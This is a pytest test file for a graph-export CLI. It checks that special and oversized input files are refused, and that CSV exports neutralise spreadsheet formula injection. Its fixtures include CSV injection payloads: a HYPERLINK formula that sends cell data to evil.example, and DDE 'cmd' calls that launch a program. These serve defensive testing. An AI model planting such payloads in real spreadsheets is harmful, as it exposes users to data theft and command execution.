"""Hostile files: special files and sparse giants on the command line, and CSV cells that are formulas.

Reading a file must never hang (a named pipe with no writer), never read without end (``/dev/zero``) and never
read more than the limit of its kind (a sparse file of 1.5 GB): each is refused in one line with exit code 2.
The CLI runs in a child process capped at 1 GiB of address space, so a regression fails the test instead of
exhausting the machine; its peak RSS is measured by a parent of its own.
"""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from dataclasses import dataclass, replace
from pathlib import Path

import pytest

from graph.exports import export
from graph.exports.tabular import to_edges_csv, to_nodes_csv
from graph.model import Edge, Node, NodeKind, Portfolio, RelType
from loaders.tabular import read_csv_pair
from tests.conftest import REPO

CAP_BYTES = 1024 * 1024 * 1024  # the child's address space
TIMEOUT_S = 20

# A parent of the CLI's own, so that RUSAGE_CHILDREN is the CLI's peak and no other test's.
_MEASURE = """
import json, resource, subprocess, sys
cap, timeout = int(sys.argv[1]), float(sys.argv[2])
def limit():
    resource.setrlimit(resource.RLIMIT_AS, (cap, cap))
try:
    res = subprocess.run(sys.argv[3:], capture_output=True, text=True, timeout=timeout, preexec_fn=limit)
    out = {"rc": res.returncode, "stdout": res.stdout, "stderr": res.stderr}
except subprocess.TimeoutExpired:
    out = {"rc": None, "stdout": "", "stderr": "timed out"}
out["peak_mb"] = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss / 1024
print(json.dumps(out))
"""


@dataclass(frozen=True)
class Outcome:
    rc: int | None  # None: killed after TIMEOUT_S
    stdout: str
    stderr: str
    peak_mb: float


def eagraph(*args: str | Path) -> Outcome:
    """``eagraph ARGS`` with its address space capped, killed after :data:`TIMEOUT_S`."""
    cli = [sys.executable, "-m", "app.cli", *map(str, args)]
    res = subprocess.run(
        [sys.executable, "-c", _MEASURE, str(CAP_BYTES), str(TIMEOUT_S), *cli],
        capture_output=True,
        text=True,
        timeout=TIMEOUT_S + 40,
        cwd=REPO,
        env={**os.environ, "NEO4J_URI": "bolt://127.0.0.1:9"},  # never the shared server
    )
    assert res.returncode == 0, res.stderr
    return Outcome(**json.loads(res.stdout))


def assert_refused(out: Outcome, *fragments: str) -> None:
    assert out.rc == 2, out
    assert out.stdout == ""
    assert len(out.stderr.strip().splitlines()) == 1, out.stderr
    assert "Traceback" not in out.stderr
    for fragment in fragments:
        assert fragment in out.stderr, out.stderr


def command(name: str, path: Path) -> list[str | Path]:
    """``parse FILE``, ``load -p FILE`` or ``import FILE``."""
    commands: dict[str, list[str | Path]] = {
        "parse": ["parse", path],
        "load": ["load", "-p", path],
        "import": ["import", path],
    }
    return commands[name]


@pytest.mark.parametrize("name", ["parse", "load", "import"])
def test_a_named_pipe_is_refused_at_once_instead_of_waiting_for_a_writer(tmp_path: Path, name: str) -> None:
    fifo = tmp_path / "portfolio.txt"
    os.mkfifo(fifo)
    assert_refused(eagraph(*command(name, fifo)), str(fifo), "is not a regular file (a named pipe)")


@pytest.mark.parametrize("device", ["/dev/zero", "/dev/urandom"])
@pytest.mark.parametrize("name", ["parse", "import"])
def test_a_symlink_to_an_endless_device_is_refused_unread(tmp_path: Path, device: str, name: str) -> None:
    link = tmp_path / "portfolio.json"
    link.symlink_to(device)
    out = eagraph(*command(name, link))
    assert_refused(out, str(link), "is not a regular file (a character device)")
    assert out.peak_mb < 300, out.peak_mb


@pytest.mark.parametrize(
    ("first_bytes", "suffix"),
    [(b"", ".txt"), (b'{"nodes": [', ".json"), (b"<?xml version='1.0'?>", ".xml")],
    ids=["document", "node-link", "xml"],
)
def test_a_sparse_file_of_1_5_gb_is_refused_by_its_size_without_being_read(
    tmp_path: Path, first_bytes: bytes, suffix: str
) -> None:
    sparse = tmp_path / f"portfolio{suffix}"
    with sparse.open("wb") as f:
        f.write(first_bytes)
        f.truncate(1_500_000_000)
    out = eagraph("parse", sparse)
    assert_refused(out, str(sparse), "1500.0 MB", "larger than")
    assert out.peak_mb < 300, out.peak_mb


def test_a_directory_given_as_an_overlay_is_refused_in_one_line(tmp_path: Path) -> None:
    out = eagraph("parse", "--overlay", tmp_path, REPO / "seed" / "hdir-systemportefolje-2023.txt")
    assert_refused(out, str(tmp_path), "is a directory")


# ------------------------------------------------------------------------------- CSV formula injection

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")  # what a spreadsheet runs (OWASP, "CSV Injection")
FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"Klikk")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


def formula_portfolio() -> Portfolio:
    """A node and an edge with a formula in every free-text cell, and the cells that look like one."""
    return Portfolio(
        "formler.txt",
        (
            Node(
                "a",
                "=A1",
                NodeKind.SYSTEM,
                aliases=("+alias", "@alias", "-5"),
                short="-5",
                owner="=cmd|' /C calc'!A0",
                description="\t=1+1",
                url="@x",
                category="'=already quoted",
                entry="'plain quote",
            ),
            Node("b", "B", NodeKind.SYSTEM, description="-", owner="''=two quotes"),
        ),
        (Edge("a", "b", RelType.USES, '=HYPERLINK("http://evil.example","x")', note="+note"),),
    )


def cells(csv_text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(csv_text, newline="")) for cell in row]


@pytest.mark.parametrize("fmt", ["csv-nodes", "csv-edges"])
@pytest.mark.parametrize("formula", FORMULAS)
def test_a_csv_export_never_starts_a_cell_with_a_formula_character(fmt: str, formula: str) -> None:
    p = formula_portfolio()
    p = Portfolio(
        p.document,
        (replace(p.nodes[0], name=formula, description=formula), p.nodes[1]),
        (replace(p.edges[0], evidence=formula),),
    )
    written = cells(export(p, fmt)[1])
    assert not [c for c in written if c[:1] in FORMULA_STARTS], written
    assert "'" + formula in written


def test_a_neutralised_csv_export_reads_back_to_the_same_portfolio() -> None:
    p = formula_portfolio()
    back = read_csv_pair(to_nodes_csv(p).encode(), "nodes.csv", to_edges_csv(p).encode(), "edges.csv")
    assert back.nodes == p.nodes
    assert back.edges == p.edges


def test_only_the_one_quote_the_export_adds_is_taken_off_on_import() -> None:
    nodes = b"id,name,kind,short,owner\na,'=A1,system,'plain,'''-5\n"
    edges = b"source,target,type,evidence\na,a,USES,'@evidence\n"
    node = read_csv_pair(nodes, "nodes.csv", edges, "edges.csv").nodes[0]
    assert (node.name, node.short, node.owner) == ("=A1", "'plain", "''-5")


@pytest.mark.parametrize("fmt", ["csv-nodes", "csv-edges"])
def test_a_carriage_return_inside_a_cell_cannot_start_a_row_of_its_own(fmt: str) -> None:
    p = formula_portfolio()
    sneaky = "Saksbehandling\r=cmd|' /C calc'!A0"
    p = Portfolio(
        p.document, (replace(p.nodes[0], name=sneaky), p.nodes[1]), (replace(p.edges[0], evidence=sneaky),)
    )
    written = cells(export(p, fmt)[1])
    assert sneaky in written
    assert not [c for c in written if c[:1] in FORMULA_STARTS], written
